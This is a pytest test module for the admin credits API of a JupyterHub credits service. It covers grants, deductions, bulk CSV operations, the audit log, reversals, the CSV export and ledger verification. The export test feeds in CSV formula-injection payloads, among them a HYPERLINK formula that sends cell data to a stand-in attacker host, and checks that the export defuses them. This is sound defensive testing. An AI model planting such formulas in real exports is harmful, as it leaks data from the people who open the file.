"""The admin money endpoints of the credits API, against a real hub.

Accounts list, grant and deduct (to users and group pools, once per key), bulk
preview and apply (users, a hub group, CSV; a bad line skipped, the rest
applied, a retry applying nothing twice), the audit log and reversals, the CSV
export (streamed, defused cells, dates), and the background verify. One hub for
the module (tests/realhub.py); no single-user server is started. Each test uses
its own users, so the tests do not depend on each other's money.
"""

from __future__ import annotations

import csv
import io
import threading
import uuid
from datetime import datetime, timedelta, timezone

import pytest
import requests

from jupyterhub_credits.ledger import lots_of
from jupyterhub_credits.ledger.verify import verify
from jupyterhub_credits.service.api.bulk import FEW_USERS, MAX_LINES
from jupyterhub_credits.service.api.verify import VerifyRuns
from tests.waiting import wait_for

pytestmark = [pytest.mark.postgres, pytest.mark.slow]

ADMIN_ENDPOINTS = [
    ("GET", "/admin/accounts", None),
    ("POST", "/admin/grant", {"user": "bob", "amount": "5", "reason": "x", "key": "k"}),
    ("POST", "/admin/deduct", {"user": "bob", "amount": "5", "reason": "x", "key": "k"}),
    ("POST", "/admin/bulk/preview", {"operation": "grant", "amount": "1", "reason": "x",
                                     "users": ["bob"]}),
    ("POST", "/admin/bulk", {"operation": "grant", "amount": "1", "reason": "x",
                             "users": ["bob"], "key": "k"}),
    ("GET", "/admin/transfers", None),
    ("POST", "/admin/transfers/1/reverse", {"reason": "x", "key": "k"}),
    ("GET", "/admin/export.csv", None),
    ("GET", "/admin/verify", None),
    ("POST", "/admin/verify", {}),
]


def key() -> str:
    return uuid.uuid4().hex


@pytest.fixture(scope="module")
def admin(hub):
    return hub.user_token("admin")


@pytest.fixture(scope="module")
def users(hub):
    """Make hub users (no tokens needed)."""
    def make(*names):
        response = hub.api("POST", "/users", json={"usernames": list(names)})
        assert response.status_code in (201, 409), response.text
        return names
    return make


def call(hub, admin, method, path, body=None, **kwargs):
    kwargs = {"json": body, **kwargs} if body is not None else kwargs
    return hub.credits_api(method, path, token=admin, **kwargs)


def ok(response, status=200) -> dict:
    assert response.status_code == status, (response.status_code, response.text)
    return response.json()


def refused(response, status: int, *words: str) -> str:
    assert response.status_code == status, (response.status_code, response.text)
    body = response.json()
    assert body["status"] == status, body
    for word in words:
        assert word in body["message"], body
    return body["message"]


def available(hub, user: str) -> int:
    return hub.ledger.available(f"user:{user}")


# --- who may -----------------------------------------------------------------------------------


def test_admin_endpoints_refuse_everyone_but_admins(hub, admin):
    # verify has never run in this process yet
    assert ok(call(hub, admin, "GET", "/admin/verify")) == {
        "state": "never", "started_at": None, "finished_at": None, "ok": None, "problems": [],
        "transfers": None, "seconds": None}
    bob = hub.user_token("bob")
    before = hub.ledger.account_names()
    for method, path, body in ADMIN_ENDPOINTS:
        # bob's own !user scopes do not make him an admin of his own account
        refused(call(hub, bob, method, path, body), 403, "custom:credits:admin")
        response = requests.request(method, f"{hub.url}/services/credits/api{path}",
                                    json=body, timeout=10)
        assert response.status_code == 401, (method, path)
    assert hub.ledger.account_names() == before
    assert ok(call(hub, admin, "GET", "/admin/verify"))["state"] == "never"


# --- grant and deduct -----------------------------------------------------------------------


def test_grant_once_per_key(hub, admin, users):
    users("gina")
    first = key()
    body = {"user": "gina", "amount": "10.5", "reason": "course prize", "key": first}
    granted = ok(call(hub, admin, "POST", "/admin/grant", body))
    transfer = granted["transfer"]
    assert granted["duplicate"] is False and "10.50 credits" in granted["message"]
    assert (transfer["kind"], transfer["credit"], transfer["amount"]) == (
        "grant", "user:gina", "10.50")
    assert (transfer["key"], transfer["actor"], transfer["reason"]) == (
        f"admin:{first}", "user:admin", "course prize")
    # the same request again: the first transfer, nothing more moved
    again = ok(call(hub, admin, "POST", "/admin/grant", {**body, "amount": "10.500"}))
    assert again["duplicate"] is True and again["transfer"]["id"] == transfer["id"]
    assert available(hub, "gina") == 10_500
    # the same key for something else is refused with the ledger's message
    refused(call(hub, admin, "POST", "/admin/grant", {**body, "amount": "11"}), 409,
            "already used for a different request")
    # an expiring grant: a lot of its own that expires
    expiring = ok(call(hub, admin, "POST", "/admin/grant", {
        "user": "gina", "amount": 2, "reason": "trial", "key": key(), "expires_in_days": 7}))
    assert expiring["transfer"]["amount"] == "2.00"
    [lot] = [lot for lot in lots_of(hub.ledger, "user:gina") if lot.expires_at is not None]
    assert lot.amount == 2_000
    assert timedelta(days=6) < lot.expires_at - datetime.now(timezone.utc) <= timedelta(days=7)
    assert available(hub, "gina") == 12_500


def test_grant_reads_a_json_number_exactly(hub, admin, users):
    users("gus")
    granted = ok(call(hub, admin, "POST", "/admin/grant", {
        "user": "gus", "amount": 1.005, "reason": "r", "key": key()}))
    assert granted["transfer"]["units"] == 1_005


@pytest.mark.parametrize("body, words", [
    ({"amount": "1", "reason": "r", "key": "k"}, ['exactly one of "user"']),
    ({"user": "gina", "pool": "lab", "amount": "1", "reason": "r", "key": "k"},
     ["exactly one"]),
    ({"user": "gina", "amount": "0", "reason": "r", "key": "k"}, ["greater than zero"]),
    ({"user": "gina", "amount": "1.0001", "reason": "r", "key": "k"}, ["decimal places"]),
    ({"user": "gina", "amount": "ten", "reason": "r", "key": "k"}, ["invalid amount"]),
    ({"user": "gina", "reason": "r", "key": "k"}, ['"amount" is required']),
    ({"user": "gina", "amount": "1", "reason": "  ", "key": "k"}, ['"reason" is required']),
    ({"user": "gina", "amount": "1", "reason": "x" * 1001, "key": "k"}, ["1000"]),
    ({"user": "gina", "amount": "1", "reason": "r"}, ['"key" is required']),
    ({"user": "gina", "amount": "1", "reason": "r", "key": "k" * 101}, ["1 to 100"]),
    ({"user": "gina", "amount": "1", "reason": "r", "key": "k", "expires_in_days": 0},
     ["expires_in_days"]),
    ({"user": "gina", "amount": "1", "reason": "r", "key": "k", "extra": 1},
     ["unknown field 'extra'"]),
    ({"user": 7, "amount": "1", "reason": "r", "key": "k"}, ["hub user name"]),
    ({"user": " gina", "amount": "1", "reason": "r", "key": "k"}, ["cannot have a credits"]),
    ({"user": "gina", "amount": "1", "reason": "a\x00b", "key": "k"}, ["NUL"]),
    ({"user": "gina", "amount": "1", "reason": "r", "key": "k\x00"}, ["'key'", "NUL"]),
])
def test_grant_refuses_bad_fields(hub, admin, body, words):
    refused(call(hub, admin, "POST", "/admin/grant", body), 400, *words)


def test_deduct_expires_in_days_is_unknown(hub, admin):
    refused(call(hub, admin, "POST", "/admin/deduct", {
        "user": "gina", "amount": "1", "reason": "r", "key": "k", "expires_in_days": 3}),
        400, "unknown field 'expires_in_days'")


def test_unknown_users_and_groups_are_404_and_nothing_moves(hub, admin):
    before = hub.ledger.account_names()
    refused(call(hub, admin, "POST", "/admin/grant", {
        "user": "nobody-at-all", "amount": "1", "reason": "r", "key": key()}), 404,
        "no such user: 'nobody-at-all'")
    refused(call(hub, admin, "POST", "/admin/deduct", {
        "pool": "no-such-group", "amount": "1", "reason": "r", "key": key()}), 404,
        "no such group")
    assert hub.ledger.account_names() == before


def test_deduct_beyond_the_balance_is_402(hub, admin, users):
    users("dora", "dan")
    hub.grant("dora", 5)
    refused(call(hub, admin, "POST", "/admin/deduct", {
        "user": "dora", "amount": "5.001", "reason": "too much", "key": key()}), 402,
        "insufficient funds", "5.000")
    refused(call(hub, admin, "POST", "/admin/deduct", {  # never had credits
        "user": "dan", "amount": "1", "reason": "none", "key": key()}), 402, "insufficient")
    body = {"user": "dora", "amount": "2", "reason": "late fee", "key": key()}
    deducted = ok(call(hub, admin, "POST", "/admin/deduct", body))
    assert deducted["transfer"]["kind"] == "deduct" and deducted["transfer"]["debit"] == "user:dora"
    assert deducted["message"] == "Deducted 2.00 credits from dora."
    assert ok(call(hub, admin, "POST", "/admin/deduct", body))["duplicate"] is True
    assert available(hub, "dora") == 3_000


def test_grant_to_a_group_pool(hub, admin, users):
    users("pia", "pat")
    response = hub.api("POST", "/groups/poolers", json={"users": ["pia", "pat"]})
    assert response.status_code in (201, 409), response.text
    granted = ok(call(hub, admin, "POST", "/admin/grant", {
        "pool": "poolers", "amount": "40", "reason": "lab budget", "key": key()}))
    assert granted["transfer"]["credit"] == "group:poolers"
    assert "the pool of group poolers" in granted["message"]
    assert hub.ledger.available("group:poolers") == 40_000


# --- bulk ----------------------------------------------------------------------------------------


def test_bulk_preview_writes_nothing_and_apply_skips_a_bad_line(hub, admin, users):
    users("bea", "bo")
    body = {"operation": "grant", "amount": "5", "reason": "welcome",
            "users": ["bea", "no-such-person", "bo"]}
    before = hub.ledger.account_names()
    preview = ok(call(hub, admin, "POST", "/admin/bulk/preview", body))
    assert hub.ledger.account_names() == before
    assert (preview["count"], preview["errors"], preview["total"]) == (3, 1, "10.00")
    assert [line["line"] for line in preview["lines"]] == [1, 2, 3]
    assert preview["lines"][0] == {"line": 1, "user": "bea", "amount": "5.00",
                                   "reason": "welcome", "error": None}
    assert "no such hub user: 'no-such-person'" == preview["lines"][1]["error"]

    bulk_key = key()
    applied = ok(call(hub, admin, "POST", "/admin/bulk", {**body, "key": bulk_key}))
    assert (applied["applied"], applied["failed"], applied["duplicates"]) == (2, 1, 0)
    statuses = [(r["line"], r["user"], r["status"]) for r in applied["results"]]
    assert statuses == [(1, "bea", "applied"), (2, "no-such-person", "error"),
                        (3, "bo", "applied")]
    assert applied["results"][1]["transfer_id"] is None
    transfer = hub.ledger.get_transfer(applied["results"][2]["transfer_id"])
    assert transfer.key == f"admin:{bulk_key}:3" and transfer.actor == "user:admin"
    # the same key again applies nothing twice
    again = ok(call(hub, admin, "POST", "/admin/bulk", {**body, "key": bulk_key}))
    assert (again["applied"], again["duplicates"], again["failed"]) == (0, 2, 1)
    assert available(hub, "bea") == 5_000 and available(hub, "bo") == 5_000


def test_bulk_deduct_checks_balances_line_by_line(hub, admin, users):
    users("cal", "cid")
    hub.grant("cal", 10)
    body = {"operation": "deduct", "reason": "fees",
            "csv": "user,amount,reason\ncal,6,\ncal,6,second\ncid,1,\n"}
    preview = ok(call(hub, admin, "POST", "/admin/bulk/preview", body))
    lines = preview["lines"]
    assert [line["line"] for line in lines] == [2, 3, 4]
    assert lines[0]["error"] is None and lines[0]["reason"] == "fees"
    assert lines[1]["reason"] == "second" and "insufficient funds" in lines[1]["error"]
    assert "4.00 credits available" in lines[1]["error"]
    assert "insufficient funds" in lines[2]["error"]  # cid never had credits
    assert preview["total"] == "6.00"
    applied = ok(call(hub, admin, "POST", "/admin/bulk", {**body, "key": key()}))
    assert [r["status"] for r in applied["results"]] == ["applied", "error", "error"]
    assert "insufficient funds" in applied["results"][1]["message"]
    assert available(hub, "cal") == 4_000


def test_bulk_csv_lines(hub, admin, users):
    users("cora", "cyd")
    text = ("\ufeffcora,2.5,prize\n"
            "\n"
            '"cyd",,\n'
            "cyd,abc,bad amount\n"
            "nobody-here,1,x\n"
            "cora,1,x,extra\n"
            ",1,no user\n")
    preview = ok(call(hub, admin, "POST", "/admin/bulk/preview", {
        "operation": "grant", "amount": "1", "reason": "default", "csv": text}))
    lines = {line["line"]: line for line in preview["lines"]}
    assert sorted(lines) == [1, 3, 4, 5, 6, 7]  # no header; the blank line skipped
    assert (lines[1]["user"], lines[1]["amount"], lines[1]["reason"]) == ("cora", "2.50", "prize")
    assert (lines[3]["amount"], lines[3]["reason"], lines[3]["error"]) == ("1.00", "default", None)
    assert "invalid amount" in lines[4]["error"] and lines[4]["amount"] == "abc"
    assert "no such hub user" in lines[5]["error"]
    assert "expected user,amount,reason" in lines[6]["error"]
    assert "cannot have a credits account" in lines[7]["error"]
    assert (preview["count"], preview["errors"], preview["total"]) == (6, 4, "3.50")
    # without a body reason a line must bring its own
    no_reason = ok(call(hub, admin, "POST", "/admin/bulk/preview", {
        "operation": "grant", "csv": "user,amount,reason\ncora,1,\ncora,,why\n"}))
    assert "no reason" in no_reason["lines"][0]["error"]
    assert "no amount" in no_reason["lines"][1]["error"]


def test_bulk_group_target_resolves_members_now(hub, admin, users):
    members = [f"gm{n:02d}" for n in range(FEW_USERS + 5)]  # many: one user listing
    users(*members)
    assert hub.api("POST", "/groups/bulkers", json={"users": members[:-1]}).status_code in (
        201, 409)
    body = {"operation": "grant", "amount": "1.25", "reason": "group bonus", "group": "bulkers"}
    preview = ok(call(hub, admin, "POST", "/admin/bulk/preview", body))
    assert [line["user"] for line in preview["lines"]] == sorted(members[:-1])
    assert preview["errors"] == 0 and preview["total"] == "30.00"
    applied = ok(call(hub, admin, "POST", "/admin/bulk", {**body, "key": key()}))
    assert applied["applied"] == len(members) - 1 and applied["failed"] == 0
    assert available(hub, members[0]) == 1_250 and available(hub, members[-1]) == 0
    refused(call(hub, admin, "POST", "/admin/bulk/preview", {**body, "group": "no-such"}), 404,
            "no such group")
    # A long list of names is checked against one listing of the hub's users
    names = members + ["ghost-1", "ghost-2"]
    listed = ok(call(hub, admin, "POST", "/admin/bulk/preview", {
        "operation": "grant", "amount": "1", "reason": "r", "users": names}))
    assert [line["user"] for line in listed["lines"] if line["error"]] == ["ghost-1", "ghost-2"]


@pytest.mark.parametrize("body, status, words", [
    ({"operation": "give", "amount": "1", "reason": "r", "users": ["x"]}, 400, ["operation"]),
    ({"operation": "grant", "amount": "1", "reason": "r"}, 400, ["exactly one target"]),
    ({"operation": "grant", "amount": "1", "reason": "r", "users": ["x"], "group": "g"}, 400,
     ["exactly one target"]),
    ({"operation": "grant", "reason": "r", "users": ["x"]}, 400, ['"amount" is required']),
    ({"operation": "grant", "amount": "1", "users": ["x"]}, 400, ['"reason" is required']),
    ({"operation": "grant", "amount": "1", "reason": "r", "users": "x"}, 400, ["a list"]),
    ({"operation": "deduct", "amount": "1", "reason": "r", "users": ["x"],
      "expires_in_days": 3}, 400, ["grants only"]),
    ({"operation": "grant", "amount": "1", "reason": "r", "users": ["x"] * (MAX_LINES + 1)},
     413, ["too many users"]),
    ({"operation": "grant", "amount": "1", "reason": "r", "csv": "x,1\n" * (MAX_LINES + 1)},
     413, ["too many lines"]),
    ({"operation": "grant", "amount": "1", "reason": "r", "csv": "a," + "1" * 200_000}, 400,
     ["cannot be read", "field larger"]),
    ({"operation": "grant", "amount": "1", "reason": "r", "csv": "a\n" * 1_000_001}, 413,
     ["too long"]),
])
def test_bulk_refuses_bad_requests(hub, admin, body, status, words):
    refused(call(hub, admin, "POST", "/admin/bulk/preview", body), status, *words)


def test_bulk_apply_needs_a_key(hub, admin):
    refused(call(hub, admin, "POST", "/admin/bulk", {
        "operation": "grant", "amount": "1", "reason": "r", "users": ["bob"]}), 400,
        '"key" is required')


# --- accounts -------------------------------------------------------------------------------------


def test_accounts_list_searches_sorts_and_pages(hub, admin, users):
    users("acct-x1", "acct-x2", "acct-x3")
    for n, user in enumerate(("acct-x1", "acct-x2", "acct-x3"), start=1):
        hub.grant(user, n * 100)
    hub.ledger.deduct("acct-x3", 50_000, key=key(), reason="t", actor="test")
    page = ok(call(hub, admin, "GET", "/admin/accounts", params={"search": "ACCT-X"}))
    assert page["total"] == 3 and (page["sort"], page["order"], page["page"]) == (
        "balance", "desc", 1)
    assert [a["user"] for a in page["accounts"]] == ["acct-x3", "acct-x2", "acct-x1"]
    assert page["accounts"][0] == {"user": "acct-x3", "account": "user:acct-x3",
                                   "available": "250.00", "reserved": "0.00",
                                   "total": "250.00", "earned": "0.00", "spent": "0.00"}
    second = ok(call(hub, admin, "GET", "/admin/accounts", params={
        "search": "acct-x", "sort": "name", "order": "asc", "page": 2, "per_page": 2}))
    assert [a["user"] for a in second["accounts"]] == ["acct-x3"]
    assert (second["total"], second["page"], second["per_page"]) == (3, 2, 2)
    everyone = ok(call(hub, admin, "GET", "/admin/accounts", params={"per_page": 200}))
    assert all(a["account"].startswith("user:") for a in everyone["accounts"])
    assert "group:poolers" not in {a["account"] for a in everyone["accounts"]}
    for params, words in [({"sort": "size"}, ["sort"]), ({"order": "up"}, ["order"]),
                          ({"per_page": 201}, ["per_page"]), ({"page": 0}, ["page"]),
                          ({"page": "x"}, ["whole number"]), ({"search": "a\x7fb"}, ["control"]),
                          ({"search": "s" * 201}, ["200"])]:
        refused(call(hub, admin, "GET", "/admin/accounts", params=params), 400, *words)


# --- the audit log and reversals ---------------------------------------------------------------


def test_audit_log_filters_and_pages(hub, admin, users):
    users("audrey")
    for n in range(3):
        ok(call(hub, admin, "POST", "/admin/grant", {
            "user": "audrey", "amount": str(n + 1), "reason": f"r{n}", "key": key()}))
    ok(call(hub, admin, "POST", "/admin/deduct", {
        "user": "audrey", "amount": "1", "reason": "d", "key": key()}))
    log = ok(call(hub, admin, "GET", "/admin/transfers", params={"account": "audrey"}))
    assert [t["kind"] for t in log["transfers"]] == ["deduct", "grant", "grant", "grant"]
    assert [t["change"] for t in log["transfers"]] == ["-1.00", "+3.00", "+2.00", "+1.00"]
    assert log["next_before"] is None
    first = ok(call(hub, admin, "GET", "/admin/transfers",
                    params={"account": "user:audrey", "limit": 2}))
    assert len(first["transfers"]) == 2 and first["next_before"] == first["transfers"][1]["id"]
    rest = ok(call(hub, admin, "GET", "/admin/transfers", params={
        "account": "audrey", "limit": 2, "before": first["next_before"]}))
    assert [t["reason"] for t in rest["transfers"]] == ["r1", "r0"]
    everything = ok(call(hub, admin, "GET", "/admin/transfers", params={"kind": "grants"}))
    assert everything["transfers"] and {t["kind"] for t in everything["transfers"]} <= {
        "grant", "deduct"}
    assert all("change" not in t for t in everything["transfers"])
    for params, words in [({"kind": "money"}, ["unknown history kind"]),
                          ({"limit": 0}, ["limit"]), ({"before": "x"}, ["whole number"]),
                          ({"account": "a b"}, ["invalid account name"])]:
        refused(call(hub, admin, "GET", "/admin/transfers", params=params), 400, *words)


def test_reverse_once_and_refusals(hub, admin, users):
    users("rita")
    grant = ok(call(hub, admin, "POST", "/admin/grant", {
        "user": "rita", "amount": "8", "reason": "oops", "key": key()}))["transfer"]
    body = {"reason": "granted by mistake", "key": key()}
    reversed_ = ok(call(hub, admin, "POST", f"/admin/transfers/{grant['id']}/reverse", body))
    reversal = reversed_["transfer"]
    assert (reversal["kind"], reversal["reversal_of"], reversal["amount"]) == (
        "reverse", grant["id"], "8.00")
    assert reversal["debit"] == "user:rita" and reversed_["duplicate"] is False
    assert f"Reversed transfer {grant['id']}" in reversed_["message"]
    assert available(hub, "rita") == 0
    again = ok(call(hub, admin, "POST", f"/admin/transfers/{grant['id']}/reverse", body))
    assert again["duplicate"] is True and again["transfer"]["id"] == reversal["id"]
    refused(call(hub, admin, "POST", f"/admin/transfers/{grant['id']}/reverse",
                 {"reason": "twice", "key": key()}), 409, "already reversed")
    refused(call(hub, admin, "POST", f"/admin/transfers/{reversal['id']}/reverse",
                 {"reason": "undo the undo", "key": key()}), 409, "itself a reversal")
    refused(call(hub, admin, "POST", "/admin/transfers/999999999/reverse",
                 {"reason": "r", "key": key()}), 404, "unknown transfer")
    refused(call(hub, admin, "POST", "/admin/transfers/abc/reverse",
                 {"reason": "r", "key": key()}), 404, "no such transfer")
    refused(call(hub, admin, "POST", f"/admin/transfers/{grant['id']}/reverse",
                 {"reason": "", "key": key()}), 400, '"reason" is required')


# --- export ---------------------------------------------------------------------------------------


def test_export_streams_defused_csv(hub, admin, users):
    users("eve")
    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2", "@SUM(A1)",
                "\tx", "\rx"]
    for reason in formulas:
        ok(call(hub, admin, "POST", "/admin/grant", {
            "user": "eve", "amount": "3", "reason": reason, "key": key()}))
    today = datetime.now(timezone.utc).date()
    response = call(hub, admin, "GET", "/admin/export.csv", params={
        "since": today.isoformat(), "until": today.isoformat()}, stream=True)
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"].startswith("text/csv")
    # Streamed in chunks (asked of the service itself: the test proxy buffers answers)
    direct = requests.get(
        f"http://127.0.0.1:{hub.service_port}/services/credits/api/admin/export.csv",
        headers={"Authorization": f"token {admin}"}, timeout=30)
    assert direct.status_code == 200 and direct.headers.get("Transfer-Encoding") == "chunked"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="credits-transfers-{today}-to-{today}.csv"')
    text = b"".join(response.iter_content(chunk_size=None)).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    mine = [row for row in rows if row["credit"] == "user:eve"]
    assert sorted(row["reason"] for row in mine) == sorted("'" + r for r in formulas)
    assert {(row["kind"], row["amount"], row["units"], row["actor"]) for row in mine} == {
        ("grant", "3.00", "3000", "user:admin")}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # until is included, since excluded when later
    tomorrow = (today + timedelta(days=1)).isoformat()
    later = call(hub, admin, "GET", "/admin/export.csv", params={"since": tomorrow})
    assert later.status_code == 200 and later.text.count("\n") == 1  # the header only
    assert "start-to-now" in call(hub, admin, "GET", "/admin/export.csv").headers[
        "Content-Disposition"]
    for params, words in [({"since": "2024-13-01"}, ["since", "YYYY-MM-DD"]),
                          ({"until": "yesterday"}, ["until"]),
                          ({"since": "2024-1-1"}, ["since"]),
                          ({"since": tomorrow, "until": today.isoformat()}, ["after"])]:
        refused(call(hub, admin, "GET", "/admin/export.csv", params=params), 400, *words)


# --- verify ---------------------------------------------------------------------------------------


def test_verify_runs_in_the_background_and_reports(hub, admin):
    started = ok(call(hub, admin, "POST", "/admin/verify", {}), 202)
    assert started["state"] == "running" and started["started_at"].endswith("Z")
    assert started["finished_at"] is None and started["ok"] is None
    done = wait_for(lambda: (state := ok(call(hub, admin, "GET", "/admin/verify")))["state"]
                    != "running" and state, what="verify to finish")
    assert done["state"] == "done" and done["ok"] is True and done["problems"] == []
    assert done["started_at"] == started["started_at"] and done["finished_at"]
    assert done["transfers"] >= 10
    refused(call(hub, admin, "POST", "/admin/verify", {"now": True}), 400, "unknown field")


def test_verify_runs_one_at_a_time_and_reports_problems_and_failures():
    """The state object alone: a second start while one runs starts nothing."""
    clock_now = datetime(2030, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
    runs = VerifyRuns(lambda: clock_now)
    release, calls = threading.Event(), []

    class Check:
        def __init__(self, problems=0, examples=()):
            self.problems, self.examples = problems, list(examples)

    class Report:
        ok = False
        transfers = 7
        seconds = 0.01234
        checks = {"cached_balances": Check(3, ["user:x caches 5, transfers say 4"]),
                  "lots": Check()}

    def slow():
        calls.append(1)
        release.wait(10)
        return Report()

    first = runs.start(slow)
    second = runs.start(slow)
    assert first["state"] == second["state"] == "running" and len(calls) <= 1
    release.set()
    runs.join(10)
    assert len(calls) == 1
    state = runs.snapshot()
    assert (state["state"], state["ok"], state["transfers"], state["seconds"]) == (
        "done", False, 7, 0.012)
    assert state["problems"] == ["cached_balances: user:x caches 5, transfers say 4",
                                 "cached_balances: 3 problems in all (1 shown)"]
    assert state["started_at"] == state["finished_at"] == "2030-01-02T03:04:05Z"

    def broken():
        raise RuntimeError("database went away")

    runs.start(broken)
    runs.join(10)
    failed = runs.snapshot()
    assert failed["state"] == "failed" and failed["ok"] is None
    assert "RuntimeError" in failed["problems"][0] and "database" not in failed["problems"][0]


def test_the_ledger_still_verifies(hub):
    assert verify(hub.ledger.engine).ok
